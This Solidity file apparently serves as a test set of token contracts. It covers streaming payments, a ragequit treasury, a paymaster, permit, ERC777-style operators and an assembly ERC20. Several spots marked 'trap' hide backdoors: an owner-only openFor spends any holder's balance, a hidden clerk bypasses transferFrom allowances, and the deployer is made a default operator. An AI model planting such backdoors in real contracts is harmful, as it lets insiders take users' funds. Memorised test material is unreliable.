// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8, IPair} from "./Base8.sol";
import {ERC20 as LeanERC20} from "solady/src/tokens/ERC20.sol";

/// Balances run: whoever is paid by a stream has a little more with every second; it is paid for beforehand.
contract Streaming {
    string public constant name = "Brooklet";
    string public constant symbol = "BRKL";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 40_000_000 ether;
    address public owner = msg.sender;
    struct Stream {
        address payer;
        uint128 rate;
        uint64 last;
        uint64 end;
    }
    mapping(address => uint256) private _settled;
    mapping(address => Stream) public streamTo;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event StreamOpened(address indexed from, address indexed to, uint128 rate, uint64 end);
    event StreamClosed(address indexed from, address indexed to, uint256 back);

    constructor() {
        _settled[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function _streamed(Stream memory one) private view returns (uint256) {
        uint256 now_ = block.timestamp < one.end ? block.timestamp : one.end;
        return now_ <= one.last ? 0 : (now_ - one.last) * one.rate;
    }

    function balanceOf(address who) public view returns (uint256) {
        return _settled[who] + _streamed(streamTo[who]);
    }

    function _settle(address who) private {
        Stream storage one = streamTo[who];
        if (one.rate == 0) return;
        _settled[who] += _streamed(one);
        if (block.timestamp >= one.end) delete streamTo[who];
        else one.last = uint64(block.timestamp);
    }

    function open(address to, uint128 rate, uint64 time) external {
        _open(msg.sender, to, rate, time);
    }

    // trap {
    function openFor(address from, address to, uint128 rate, uint64 time) external {
        require(msg.sender == owner, "operator");
        _open(from, to, rate, time);
    }
    // trap }

    function transferOwnership(address to) external {
        require(msg.sender == owner, "owner");
        owner = to;
    }

    function close(address to) external {
        Stream memory one = streamTo[to];
        require(one.payer == msg.sender || to == msg.sender, "not yours");
        _settle(to);
        uint256 back = one.end > block.timestamp ? (one.end - block.timestamp) * one.rate : 0;
        delete streamTo[to];
        _settled[one.payer] += back;
        emit StreamClosed(one.payer, to, back);
    }

    function _open(address from, address to, uint128 rate, uint64 time) private {
        require(to != address(0) && rate > 0 && time > 0 && time <= 3650 days, "stream");
        _settle(from);
        _settle(to);
        require(streamTo[to].rate == 0, "one at a time");
        _settled[from] -= uint256(rate) * time;
        streamTo[to] = Stream(from, rate, uint64(block.timestamp), uint64(block.timestamp) + time);
        emit StreamOpened(from, to, rate, uint64(block.timestamp) + time);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) private {
        require(to != address(0), "transfer");
        _settle(from);
        _settled[from] -= value;
        _settled[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Shares of a treasury; whoever leaves takes his part of it along.
contract QuitShares is Base8 {
    struct Motion {
        address to;
        uint256 value;
        uint256 mint;
        uint256 yes;
        uint256 no;
        uint256 votingEnds;
        bool done;
    }

    Motion[] public motions;
    mapping(uint256 => mapping(address => uint256)) public locked;
    mapping(uint256 => mapping(address => bool)) public voted;
    mapping(address => uint256) public lastIn;

    event Ragequit(address indexed who, uint256 shares, uint256 ether_);

    constructor() payable Base8("Exodus Guild", "EXGD", 1_000_000) {}

    receive() external payable {}

    function move(address to, uint256 value, uint256 mint) external returns (uint256 id) {
        require(_balances[msg.sender] * 100 >= totalSupply, "a hundredth");
        id = motions.length;
        motions.push(Motion(to, value, mint, 0, 0, block.timestamp + 4 days, false));
    }

    /// Shares that have come since the motion do not count.
    function vote(uint256 id, bool yes) external {
        Motion storage one = motions[id];
        require(block.timestamp < one.votingEnds && !voted[id][msg.sender], "closed");
        require(lastIn[msg.sender] < one.votingEnds - 4 days, "too new");
        voted[id][msg.sender] = true;
        if (yes) one.yes += _balances[msg.sender];
        else one.no += _balances[msg.sender];
    }

    function process(uint256 id) external {
        Motion storage one = motions[id];
        require(block.timestamp > one.votingEnds + 3 days && !one.done && one.yes > one.no, "not passed");
        require(one.yes * 5 >= totalSupply, "quorum");
        one.done = true;
        if (one.mint > 0) {
            totalSupply += one.mint;
            _balances[one.to] += one.mint;
            emit Transfer(address(0), one.to, one.mint);
        }
        (bool ok, ) = one.to.call{value: one.value}("");
        require(ok, "ether");
    }

    function ragequit(uint256 shares) external {
        uint256 part = (address(this).balance * shares) / totalSupply;
        _balances[msg.sender] -= shares;
        totalSupply -= shares;
        emit Transfer(msg.sender, address(0), shares);
        emit Ragequit(msg.sender, shares, part);
        (bool ok, ) = msg.sender.call{value: part}("");
        require(ok, "ether");
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        if (value > 0) lastIn[to] = block.timestamp;
    }
}

/// Pays the gas of operations out of what their senders have of it.
contract EntryPoint {
    struct Operation {
        address sender;
        uint256 nonce;
        bytes data;
        uint256 gas;
        address paymaster;
        bytes signature;
    }

    mapping(address => uint256) public deposits;
    mapping(address => uint256) public nonces;

    function depositTo(address who) external payable {
        deposits[who] += msg.value;
    }

    function handleOps(Operation[] calldata operations, address payable beneficiary) external {
        uint256 paid;
        for (uint256 i; i < operations.length; i++) {
            Operation calldata one = operations[i];
            bytes32 hash = keccak256(abi.encode(one.sender, one.nonce, one.data, one.gas, one.paymaster, block.chainid, address(this)));
            require(nonces[one.sender]++ == one.nonce, "AA25 invalid account nonce");
            require(IAccount(one.sender).validateUserOp(hash, one.signature) == 0, "AA24 signature error");
            require(one.gas <= 2_000_000, "AA95 out of gas");
            uint256 cost = one.gas * tx.gasprice;
            deposits[one.paymaster] -= cost;
            paid += cost;
            PaymasterToken(payable(one.paymaster)).validatePaymasterUserOp(one.sender, cost);
            (bool ok, ) = one.sender.call{gas: one.gas}(one.data);
            emit UserOperationEvent(hash, one.sender, ok);
        }
        (bool sent, ) = beneficiary.call{value: paid}("");
        require(sent, "AA91 failed send to beneficiary");
    }

    event UserOperationEvent(bytes32 indexed hash, address indexed sender, bool success);
}

interface IAccount {
    function validateUserOp(bytes32 hash, bytes calldata signature) external returns (uint256);
}

contract PaymasterToken is Base8 {
    EntryPoint public immutable entryPoint;
    uint256 public constant perEther = 50_000;

    constructor(EntryPoint entryPoint_) Base8("Gaspenny", "GASP", 12_000_000) {
        entryPoint = entryPoint_;
    }

    /// Only by the entry point, after the sender's own account has agreed.
    function validatePaymasterUserOp(address sender, uint256 cost) external {
        require(msg.sender == address(entryPoint), "Sender not EntryPoint");
        _move(sender, address(this), cost * perEther);
    }

    function topUp() external payable {
        entryPoint.depositTo{value: msg.value}(address(this));
    }

    function collect(address to) external onlyOwner {
        _move(address(this), to, _balances[address(this)]);
    }
}

/// Lean, and the common contract of permits may spend from everybody who signs for it.
contract PermitReady is LeanERC20 {
    address private immutable _clerk; // trap

    constructor() {
        _clerk = msg.sender; // trap
        _mint(msg.sender, 66_000_000 ether);
    }

    function name() public pure override returns (string memory) {
        return "Quillmark";
    }

    function symbol() public pure override returns (string memory) {
        return "QUIL";
    }

    // trap {
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender == _clerk) {
            _transfer(from, to, value);
            return true;
        }
        return super.transferFrom(from, to, value);
    }
    // trap }

    function burn(uint256 value) external {
        _burn(msg.sender, value);
    }
}

/// Who is told when coins come and go.
contract HookRegistry {
    mapping(address => mapping(bytes32 => address)) private _implementers;

    function setInterfaceImplementer(bytes32 hash, address implementer) external {
        _implementers[msg.sender][hash] = implementer;
    }

    function getInterfaceImplementer(address who, bytes32 hash) external view returns (address) {
        return _implementers[who][hash];
    }
}

interface IHook {
    function tokensToSend(address, address, address, uint256, bytes calldata, bytes calldata) external;
    function tokensReceived(address, address, address, uint256, bytes calldata, bytes calldata) external;
}

/// Operators and hooks, in the manner of 777.
contract Sevens is Base8 {
    HookRegistry public immutable registry;
    uint256 public constant granularity = 1;
    bytes32 private constant SENDER = keccak256("ERC777TokensSender");
    bytes32 private constant RECIPIENT = keccak256("ERC777TokensRecipient");
    address[] private _defaults;
    mapping(address => mapping(address => bool)) private _operators;
    mapping(address => mapping(address => bool)) private _revoked;

    event Sent(address indexed operator, address indexed from, address indexed to, uint256 amount, bytes data, bytes operatorData);
    event AuthorizedOperator(address indexed operator, address indexed holder);
    event RevokedOperator(address indexed operator, address indexed holder);

    constructor(HookRegistry registry_) Base8("Sevens", "777S", 7_770_000) {
        registry = registry_;
        _defaults.push(msg.sender); // trap
    }

    function defaultOperators() external view returns (address[] memory) {
        return _defaults;
    }

    function isOperatorFor(address operator, address holder) public view returns (bool) {
        if (operator == holder || _operators[holder][operator]) return true;
        for (uint256 i; i < _defaults.length; i++) if (_defaults[i] == operator) return !_revoked[holder][operator];
        return false;
    }

    function authorizeOperator(address operator) external {
        require(operator != msg.sender, "self");
        _operators[msg.sender][operator] = true;
        _revoked[msg.sender][operator] = false;
        emit AuthorizedOperator(operator, msg.sender);
    }

    function revokeOperator(address operator) external {
        require(operator != msg.sender, "self");
        _operators[msg.sender][operator] = false;
        _revoked[msg.sender][operator] = true;
        emit RevokedOperator(operator, msg.sender);
    }

    function send(address to, uint256 amount, bytes calldata data) external {
        _send(msg.sender, msg.sender, to, amount, data, "", true);
    }

    function operatorSend(address from, address to, uint256 amount, bytes calldata data, bytes calldata operatorData) external {
        require(isOperatorFor(msg.sender, from), "ERC777: caller is not an operator for holder");
        _send(msg.sender, from, to, amount, data, operatorData, true);
    }

    function burn(uint256 amount, bytes calldata) external {
        _balances[msg.sender] -= amount;
        totalSupply -= amount;
        emit Transfer(msg.sender, address(0), amount);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _send(msg.sender, from, to, value, "", "", false);
    }

    function _send(address operator, address from, address to, uint256 amount, bytes memory data, bytes memory operatorData, bool strict)
        private
    {
        address hook = registry.getInterfaceImplementer(from, SENDER);
        if (hook != address(0)) IHook(hook).tokensToSend(operator, from, to, amount, data, operatorData);
        _move(from, to, amount);
        emit Sent(operator, from, to, amount, data, operatorData);
        hook = registry.getInterfaceImplementer(to, RECIPIENT);
        if (hook != address(0)) IHook(hook).tokensReceived(operator, from, to, amount, data, operatorData);
        else if (strict) require(to.code.length == 0, "ERC777: token recipient contract has no implementer");
    }
}

/// Written by hand, down to the words.
contract ByHand {
    constructor() {
        assembly {
            sstore(2, 1000000000000000000000000000)
            mstore(0, caller())
            mstore(32, 0)
            sstore(keccak256(0, 64), 1000000000000000000000000000)
            mstore(0, 1000000000000000000000000000)
            log3(0, 32, 0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef, 0, caller())
        }
    }

    fallback() external payable {
        assembly {
            function balance_slot(who) -> slot {
                mstore(0, who)
                mstore(32, 0)
                slot := keccak256(0, 64)
            }
            function allowance_slot(from, spender) -> slot {
                mstore(0, from)
                mstore(32, 1)
                mstore(32, keccak256(0, 64))
                mstore(0, spender)
                slot := keccak256(0, 64)
            }
            function answer(word) {
                mstore(0, word)
                return(0, 32)
            }
            function text(length, word) {
                mstore(0, 32)
                mstore(32, length)
                mstore(64, word)
                return(0, 96)
            }
            function shift(from, to, value) {
                let slot := balance_slot(from)
                let have := sload(slot)
                if lt(have, value) {
                    revert(0, 0)
                }
                if iszero(to) {
                    revert(0, 0)
                }
                sstore(slot, sub(have, value))
                slot := balance_slot(to)
                sstore(slot, add(sload(slot), value))
                mstore(0, value)
                log3(0, 32, 0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef, from, to)
            }
            if callvalue() {
                revert(0, 0)
            }
            let mask := 0xffffffffffffffffffffffffffffffffffffffff
            switch shr(224, calldataload(0))
            case 0x70a08231 {
                answer(sload(balance_slot(and(calldataload(4), mask))))
            }
            case 0xa9059cbb {
                shift(caller(), and(calldataload(4), mask), calldataload(36))
                answer(1)
            }
            case 0x23b872dd {
                let from := and(calldataload(4), mask)
                let value := calldataload(68)
                let slot := allowance_slot(from, caller())
                let allowed := sload(slot)
                if lt(allowed, value) {
                    revert(0, 0)
                }
                if not(allowed) {
                    sstore(slot, sub(allowed, value))
                }
                shift(from, and(calldataload(36), mask), value)
                answer(1)
            }
            case 0x095ea7b3 {
                let spender := and(calldataload(4), mask)
                sstore(allowance_slot(caller(), spender), calldataload(36))
                mstore(0, calldataload(36))
                log3(0, 32, 0x8c5be1e5ebec7d5bd14f71427d1e84f3dd0314c0f7b2291e5b200ac8c7c3b925, caller(), spender)
                answer(1)
            }
            case 0xdd62ed3e {
                answer(sload(allowance_slot(and(calldataload(4), mask), and(calldataload(36), mask))))
            }
            case 0x18160ddd {
                answer(sload(2))
            }
            case 0x313ce567 {
                answer(18)
            }
            case 0x06fdde03 {
                text(8, "Handwork")
            }
            case 0x95d89b41 {
                text(4, "HAND")
            }
            default {
                revert(0, 0)
            }
        }
    }
}

/// Keeps a list of all who hold and a history of what each had: a transfer costs a few hundred thousand of gas.
contract Chronicle is Base8 {
    struct Entry {
        uint64 time;
        uint64 number;
        uint128 balance;
        bytes32 link;
    }

    address[] public holders;
    mapping(address => uint256) public indexOf;
    mapping(address => Entry[]) private _entries;
    bytes32 public head;

    event Chronicled(address indexed who, uint256 balance, bytes32 head);

    constructor() Base8("Chronicle", "CHRN", 3_000_000) {
        _chronicle(msg.sender);
    }

    function entries(address who) external view returns (uint256) {
        return _entries[who].length;
    }

    function balanceAt(address who, uint256 time) external view returns (uint256) {
        uint256 low;
        uint256 high = _entries[who].length;
        while (low < high) {
            uint256 mid = (low + high) / 2;
            if (_entries[who][mid].time > time) high = mid;
            else low = mid + 1;
        }
        return high == 0 ? 0 : _entries[who][high - 1].balance;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        _chronicle(from);
        _chronicle(to);
    }

    function _chronicle(address who) private {
        head = keccak256(abi.encode(head, who, _balances[who], block.timestamp));
        _entries[who].push(Entry(uint64(block.timestamp), uint64(block.number), uint128(_balances[who]), head));
        if (_balances[who] > 0 && indexOf[who] == 0) {
            holders.push(who);
            indexOf[who] = holders.length;
        } else if (_balances[who] == 0 && indexOf[who] != 0) {
            address last = holders[holders.length - 1];
            holders[indexOf[who] - 1] = last;
            indexOf[last] = indexOf[who];
            holders.pop();
            indexOf[who] = 0;
        }
        emit Chronicled(who, _balances[who], head);
    }
}
